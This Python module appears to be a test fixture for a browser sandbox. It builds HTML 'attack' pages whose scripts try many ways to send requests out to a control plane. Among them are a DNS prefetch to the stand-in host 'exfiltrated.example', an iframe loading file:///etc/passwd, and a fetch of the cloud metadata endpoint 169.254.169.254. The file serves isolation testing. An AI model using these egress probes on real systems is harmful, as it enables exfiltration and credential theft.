"""Pages that attack: each is a script, and what of the host it would reach if nothing held it.

`$PLANE` is the HTTP address of the control plane, `$WS` its WebSocket address, `$UDP` its UDP port.
"""

from collections.abc import Mapping

ASKING: Mapping[str, str] = {
    "fetch": "fetch('$PLANE/fetch', {mode: 'no-cors'}).catch(() => 0)",
    "post": "fetch('$PLANE/post', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '$PLANE/xhr'); x.send()",
    "beacon": "navigator.sendBeacon('$PLANE/beacon', 'x')",
    "image": "new Image().src = '$PLANE/image'",
    "script": "add('script', {src: '$PLANE/script'})",
    "style": "add('link', {rel: 'stylesheet', href: '$PLANE/style'})",
    "prefetch": "add('link', {rel: 'prefetch', href: '$PLANE/prefetch'})",
    "preconnect": "add('link', {rel: 'preconnect', href: '$PLANE'})",
    "dns-prefetch": "add('link', {rel: 'dns-prefetch', href: '//exfiltrated.example'})",
    "prerender": "add('script', {type: 'speculationrules', textContent: "
    'JSON.stringify({prerender: [{urls: ["$PLANE/prerender"]}]})})',
    "frame": "add('iframe', {src: '$PLANE/frame'})",
    "file-frame": "add('iframe', {src: 'file:///etc/passwd'})",
    "data-frame": "add('iframe', {src: \"data:text/html,<script>fetch('$PLANE/data', "
    "{mode:'no-cors'})<\\/script>\"})",
    "object": "add('object', {data: '$PLANE/object'})",
    "media": "add('video', {src: '$PLANE/media', autoplay: true})",
    "event-source": "new EventSource('$PLANE/events')",
    "websocket": "new WebSocket('$WS/socket')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('$PLANE/worker', "
    "{mode: 'no-cors'}).catch(() => 0)\"])))",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('$PLANE/shared', "
    "{mode: 'no-cors'}).catch(() => 0)\"])))",
    "redirect": "fetch('/redirect').catch(() => 0)",
    "stun": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:$UDP'}]}); "
    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
    "metadata": "fetch('http://169.254.169.254/latest/meta-data/', {mode: 'no-cors'})"
    ".catch(() => 0)",
}
"""What a page can ask for while it stays where it is."""

LEAVING: Mapping[str, str] = {
    "form": "const f = add('form', {action: '$PLANE/form', method: 'post'}); f.submit()",
    "location": "location.href = '$PLANE/location'",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: '0;url=$PLANE/refresh'})",
    "redirected-page": "location.href = '/redirect'",
    "window": "window.open('$PLANE/window')",
    "blank-window": "const w = window.open('about:blank'); w && w.fetch('$PLANE/blank')",
    "unload-beacon": "addEventListener('pagehide', () => navigator.sendBeacon('$PLANE/late'))",
}
"""What asks while the page leaves, or opens another."""

_ADD = """function add(tag, properties) {
  const made = Object.assign(document.createElement(tag), properties);
  return document.body.appendChild(made);
}"""


def page(script: str, *, on_click: bool = False) -> str:
    """Return a page with a button, which runs a script when it is loaded or on a click."""
    run = (
        f"document.querySelector('button').onclick = () => {{ {script} }};" if on_click else script
    )
    return (
        "<!doctype html><title>Attack</title><body><button>Go</button><a href=/calm>calm</a>"
        f"<script>{_ADD}\n{run}</script>"
    )
